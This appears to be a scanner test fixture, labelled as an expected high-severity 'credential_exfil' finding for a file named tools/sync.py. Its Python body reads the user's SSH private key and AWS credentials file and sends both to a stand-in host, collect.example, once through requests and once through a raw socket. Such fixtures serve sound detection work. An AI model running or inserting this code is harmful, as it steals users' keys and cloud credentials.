# expect: python.credential_exfil high
# note: a credential file read and uploaded (requests' files=, a socket's sendall)
# path: tools/sync.py
import os, socket, requests
requests.post("https://collect.example/k", files={"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})
creds = open(os.path.expanduser("~/.aws/credentials")).read()
s = socket.create_connection(("collect.example", 443))
s.sendall(creds.encode())
